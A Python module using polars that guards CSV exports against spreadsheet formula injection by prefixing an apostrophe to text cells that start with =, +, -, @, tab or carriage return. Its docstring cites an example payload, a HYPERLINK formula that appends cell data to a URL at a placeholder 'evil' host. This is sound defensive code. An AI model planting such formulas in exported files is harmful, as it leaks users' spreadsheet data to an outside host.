"""Spreadsheet formula injection: text cells that a spreadsheet would run as a formula are escaped.

A CSV cell starting with `=`, `+`, `-` or `@` (or a tab or carriage return, which some spreadsheets skip
before looking) is taken as a formula when the file is opened in Excel, LibreOffice or Google Sheets: a
plan named `=HYPERLINK("http://evil/?"&A1, "open")` would run. Such text cells get a leading apostrophe
(`'=HYPERLINK(...)`), the usual escape: spreadsheets show the text as written, without the apostrophe.

Only text (String) columns are escaped. Number columns are written as numbers, so a negative amount
stays `-12.5` and is read back as a number; it cannot be a formula. The Parquet outputs keep the exact
text: only the CSV copies, meant for spreadsheets, are escaped.
"""

from __future__ import annotations

import polars as pl

FORMULA_START = r"^[=+\-@\t\r]"
ESCAPE = "'"


def escape_formulas(df: pl.DataFrame) -> pl.DataFrame:
    """`df` with every text cell that starts like a formula prefixed by an apostrophe."""
    text = [name for name, dtype in df.schema.items() if dtype == pl.String]
    if not text:
        return df
    return df.with_columns(
        pl.when(pl.col(name).str.contains(FORMULA_START))
        .then(pl.lit(ESCAPE) + pl.col(name))
        .otherwise(pl.col(name))
        .alias(name)
        for name in text
    )
